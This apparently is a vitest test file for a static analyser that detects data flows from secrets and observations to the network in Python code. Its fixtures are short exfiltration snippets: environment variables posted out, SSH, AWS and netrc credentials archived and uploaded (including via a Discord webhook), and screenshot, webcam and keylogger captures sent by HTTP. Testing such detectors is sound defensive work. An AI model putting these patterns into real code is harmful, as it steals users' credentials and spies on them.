import { expect, test } from 'vitest';
import { read } from './reading.js';

const sentIn = async (text: string) => (await read(`import os, requests\nsecret = dict(os.environ)\n${text}\n`)).facts?.flows({ from: 'environment', to: 'network' }).map(({ sink }) => sink.name) ?? [];

test.each([
  ['an item of an attribute', 'class A:\n    def __init__(self):\n        self.d = {}\n        self.d["k"] = secret\n        requests.post(u, json=self.d)\nA()', 'requests.post'],
  ['a list in an attribute', 'class A:\n    found = []\n    def fill(self):\n        self.found.append(secret)\n    def send(self):\n        requests.post(u, json=self.found)\na = A()\na.fill()\na.send()', 'requests.post'],
  ['an attribute that another method sends, which stands above', 'class A:\n    d = {}\n    def send(self):\n        requests.post(u, json=self.d)\n    def fill(self):\n        self.d.update(secret)\na = A()\na.fill()\na.send()', 'requests.post'],
  ['a list that a table is asked for', 'd = {}\nd.setdefault("a", []).append(secret)\nrequests.post(u, json=d)', 'requests.post'],
  ['an error', 'class E(Exception):\n    pass\ntry:\n    raise E(secret)\nexcept E as e:\n    requests.post(u, json=e.args)', 'requests.post'],
  ['an item of an item', 'd = {"a": {}}\nd["a"]["b"] = secret\nrequests.post(u, json=d)', 'requests.post'],
  ['a header', 'import urllib.request as r\nq = r.Request(u)\nq.add_header("X", str(secret))\nr.urlopen(q)', 'urllib.request.urlopen'],
  ['the parts of a mail', 'import smtplib\nfrom email.mime.multipart import MIMEMultipart\nm = MIMEMultipart()\nm.attach(str(secret))\nsmtplib.SMTP(h).sendmail(a, b, m.as_string())', 'smtplib.SMTP().sendmail'],
  ['an option', 'import pycurl\nc = pycurl.Curl()\nc.setopt(c.POSTFIELDS, str(secret))\nc.perform()', 'pycurl.Curl().perform'],
])('what is put into %s is sent with it', async (_, text, sink) => {
  expect(await sentIn(text)).toEqual([sink]);
});

test.each([
  ['a module', 'import shelf\nshelf.put(secret)\nrequests.post(u, json=shelf.label)'],
  ['an attribute of a module', 'os.path.join(str(secret))\nrequests.post(u, data=os.path.sep)'],
  ['an object of the file, by a method of its own', 'class A:\n    def set_environment(self, e): pass\na = A()\na.set_environment(secret)\nrequests.post(u, json=a.label)'],
])('%s does not hold what it was given', async (_, text) => {
  expect(await sentIn(text)).toEqual([]);
});

test.each([
  ['an archive in memory', 'import io, tarfile\nb = io.BytesIO()\nwith tarfile.open(fileobj=b, mode="w:gz") as t:\n    t.add(os.path.expanduser("~/.ssh"))\nrequests.post(u, data=b.getvalue())'],
  ['an archive with a name', 'import zipfile\nz = zipfile.ZipFile("t.zip", "w")\nz.write(os.path.expanduser("~/.ssh/id_rsa"))\nz.close()\nrequests.post(u, files={"f": open("t.zip", "rb")})'],
  ['an archive of a folder', 'import shutil\na = shutil.make_archive("/tmp/a", "zip", os.path.expanduser("~/.ssh"))\nrequests.post(u, data=open(a, "rb"))'],
  ['an archive of a folder, by the name that it gets', 'import shutil\nshutil.make_archive("/tmp/a", "tar", root_dir=os.path.expanduser("~/.aws/config"))\nrequests.post(u, data=open("/tmp/a.tar", "rb"))'],
  ['a copy', 'import shutil\nshutil.copy(os.path.expanduser("~/.ssh/id_rsa"), "k.txt")\nrequests.post(u, data=open("k.txt"))'],
  ['a file that json writes', 'import json\nwith open("o.json", "w") as f:\n    json.dump(open(os.path.expanduser("~/.ssh/id_rsa")).read(), f)\nrequests.post(u, data=open("o.json"))'],
  ['a table', 'import csv\nw = csv.writer(open("o.csv", "w"))\nw.writerow([open(os.path.expanduser("~/.netrc")).read()])\nrequests.post(u, data=open("o.csv"))'],
  ['a picture in memory', 'import io\nfrom PIL import ImageGrab\nb = io.BytesIO()\nImageGrab.grab().save(b, "PNG")\nrequests.post(u, files={"f": b})'],
  ['a picture in a file', 'import pyautogui\npyautogui.screenshot("s.png")\nrequests.post(u, files={"f": open("s.png", "rb")})'],
  ['a picture of the camera', 'import cv2\nok, seen = cv2.VideoCapture(0).read()\ncv2.imwrite("f.jpg", seen)\nrequests.post(u, files={"f": open("f.jpg", "rb")})'],
])('what is packed into %s is sent with it', async (_, text) => {
  const { facts } = await read(`import os, requests\n${text}\n`);
  expect(facts?.flows({ from: ['credentials', 'observation'], to: 'network' })).toMatchObject([{ sink: { name: 'requests.post' } }]);
});

test.each([
  ['another archive', 'import zipfile\nz = zipfile.ZipFile("t.zip", "w")\nz.write(os.path.expanduser("~/.ssh/id_rsa"))\nrequests.post(u, data=open("other.zip", "rb"))'],
  ['an archive that is only read', 'import zipfile\nz = zipfile.ZipFile("t.zip")\nz.extractall(os.path.expanduser("~/.ssh"))\nrequests.post(u, data=open("t.zip", "rb"))'],
  ['a copy of something else', 'import shutil\nshutil.copy("a.txt", "k.txt")\nrequests.post(u, data=open("k.txt"))'],
])('%s holds no secret', async (_, text) => {
  const { facts } = await read(`import os, requests\n${text}\n`);
  expect(facts?.flows({ from: ['credentials', 'observation'], to: 'network' })).toEqual([]);
});

test.each([
  ['boto3', 'import boto3\nboto3.client("s3").upload_file(place, "bucket", "key")'],
  ['paramiko', 'import paramiko\nparamiko.SFTPClient.from_transport(t).put(place, "/key")'],
  ['pydrive', 'from pydrive.drive import GoogleDrive\nf = GoogleDrive(a).CreateFile({})\nf.SetContentFile(place)\nf.Upload()'],
  ['discord', 'import discord\ndiscord.SyncWebhook.from_url(u).send(file=discord.File(place))'],
])('%s sends the file whose name it is given', async (_, text) => {
  const { facts } = await read(`import os\nplace = os.path.expanduser("~/.ssh/id_rsa")\n${text}\n`);
  expect(facts?.flows({ from: 'credentials', to: 'network' })).toHaveLength(1);
});

test('the key that a connection is opened with is not sent', async () => {
  const { facts } = await read('import os, paramiko\nparamiko.SSHClient().connect(h, key_filename=os.path.expanduser("~/.ssh/id_rsa"))\n');
  expect(facts?.flows({ from: 'credentials', to: 'network' })).toEqual([]);
});

test.each([
  ['a list of the module that a function fills', 'found = []\ndef send():\n    requests.post(u, json=found)\ndef fill():\n    found.append(secret)\nfill()\nsend()'],
  ['a list of the module that a function fills, which stands below', 'found = []\nclass A:\n    def send(self):\n        requests.post(u, json=found)\nA().send()\ndef fill():\n    found.append(secret)\nfill()'],
  ['a queue', 'import queue, threading\nq = queue.Queue()\ndef work():\n    requests.post(u, json=q.get())\nthreading.Thread(target=work).start()\nq.put(secret)'],
])('%s hands on what is put into it', async (_, text) => {
  expect(await sentIn(text)).toEqual(['requests.post']);
});

test('a list of one function is not that of another', async () => {
  expect(await sentIn('def send():\n    found = []\n    requests.post(u, json=found)\ndef fill():\n    found = []\n    found.append(secret)\nfill()\nsend()')).toEqual([]);
});

test('what is typed goes to the function that is told of it', async () => {
  const { facts } = await read('import requests\nfrom pynput.keyboard import Listener\nkeys = []\ndef told(key):\n    keys.append(str(key))\n    requests.post(u, data="".join(keys))\nwith Listener(on_press=told) as listener:\n    listener.join()\n');
  expect(facts?.flows({ from: 'observation', to: 'network' })).toMatchObject([{ when: 'import', source: { name: 'pynput.keyboard.Listener' } }]);
});

test('names of secrets do not hide a secret behind them', async () => {
  expect(await sentIn('names = ["A_TOKEN", "B_TOKEN", "C_TOKEN", "D_TOKEN", "E_TOKEN", "F_TOKEN", "G_TOKEN"]\nrequests.post(u, json=[names[0], names, secret])')).toEqual(['requests.post']);
});
